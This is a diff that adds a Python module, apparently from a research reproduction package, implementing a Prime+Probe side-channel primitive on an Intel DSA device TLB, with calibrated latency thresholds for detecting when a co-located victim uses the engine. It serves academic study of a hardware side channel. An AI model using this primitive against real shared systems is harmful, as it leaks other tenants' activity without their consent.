@@ -1,0 +1,91 @@
+"""``DSA_DevTLB``: the Prime+Probe attack primitive (Section V-B).
+
+Requirements: a work queue bound to the **same engine** as the victim's
+(E0 or E1 topology) — nothing else.  The attacker primes the engine's
+``comp`` sub-entry with a noop to a chosen completion-record page, idles,
+and probes: a latency above the calibrated threshold means the entry was
+evicted, i.e. the victim executed *any* DSA operation on that engine
+(every operation writes a completion record, and data operations also
+touch src/dst sub-entries).
+
+A convenient property of single-slot sub-entries is that the probe
+doubles as the next prime: a missing entry is refilled by the probe
+itself, so steady-state sampling is just a probe loop.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from repro.core.calibration import CalibrationResult, calibrate_threshold
+from repro.core.primitives import Prober
+from repro.virt.process import GuestProcess
+
+#: Paper Fig. 4: any fixed threshold in [600, 900] works; the midpoint is
+#: the no-calibration default.
+DEFAULT_THRESHOLD_CYCLES = 750
+
+
+@dataclass(frozen=True)
+class DevTlbProbeOutcome:
+    """One probe observation."""
+
+    latency_cycles: int
+    evicted: bool
+    timestamp: int
+
+
+class DsaDevTlbAttack:
+    """Prime+Probe on the DevTLB's completion-record sub-entry."""
+
+    def __init__(
+        self,
+        process: GuestProcess,
+        wq_id: int = 0,
+        threshold: int | None = None,
+    ) -> None:
+        self.process = process
+        self.prober = Prober(process, wq_id=wq_id)
+        self.comp_va = process.comp_record()
+        self.threshold = threshold if threshold is not None else DEFAULT_THRESHOLD_CYCLES
+        self.calibration: CalibrationResult | None = None
+        self.probes = 0
+        self.evictions_seen = 0
+
+    # ------------------------------------------------------------------
+    # Setup
+    # ------------------------------------------------------------------
+    def calibrate(self, samples: int = 100) -> CalibrationResult:
+        """Derive the hit/miss threshold online (no privileges needed)."""
+        self.calibration = calibrate_threshold(self.prober, samples=samples)
+        self.threshold = self.calibration.threshold
+        return self.calibration
+
+    # ------------------------------------------------------------------
+    # The three steps
+    # ------------------------------------------------------------------
+    def prime(self) -> None:
+        """Step 1: load the attacker's completion page into the sub-entry."""
+        self.prober.probe_noop(self.comp_va)
+
+    def probe(self) -> DevTlbProbeOutcome:
+        """Step 3: re-probe and threshold the latency.
+
+        The probe also re-primes the entry, so callers can loop
+        ``idle(); probe()`` without explicit re-priming.
+        """
+        result = self.prober.probe_noop(self.comp_va)
+        evicted = result.latency_cycles >= self.threshold
+        self.probes += 1
+        if evicted:
+            self.evictions_seen += 1
+        return DevTlbProbeOutcome(
+            latency_cycles=result.latency_cycles,
+            evicted=evicted,
+            timestamp=self.prober.portal.clock.now,
+        )
+
+    @property
+    def eviction_rate(self) -> float:
+        """Fraction of probes that observed an eviction."""
+        return self.evictions_seen / self.probes if self.probes else 0.0
